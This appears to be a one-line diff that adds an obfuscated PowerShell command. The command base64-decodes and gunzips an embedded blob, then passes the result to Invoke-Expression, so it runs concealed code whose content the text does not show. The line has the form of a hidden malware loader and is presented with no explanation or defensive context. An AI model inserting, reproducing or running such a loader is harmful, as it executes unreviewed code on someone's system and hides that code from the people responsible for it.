@@ -1,0 +1,1 @@
+IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('H4sIAAAAAAACA3XKuwrCMBgG0D1PEUqgCiYBx4KTl81aqODikqYfWMmlJL9G3143J9fDEcXyDW9R5Gm4wxLv35ngVQtSFwxbNyEQE8WqXSzBRTMeJodFfSOaG629ccUkSLtWeBk/OygbvX7MoyF8CfWKVwLh2Zz3x+7682rJejKJZJeiRc5/FvsAGVNxBaAAAAA='),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
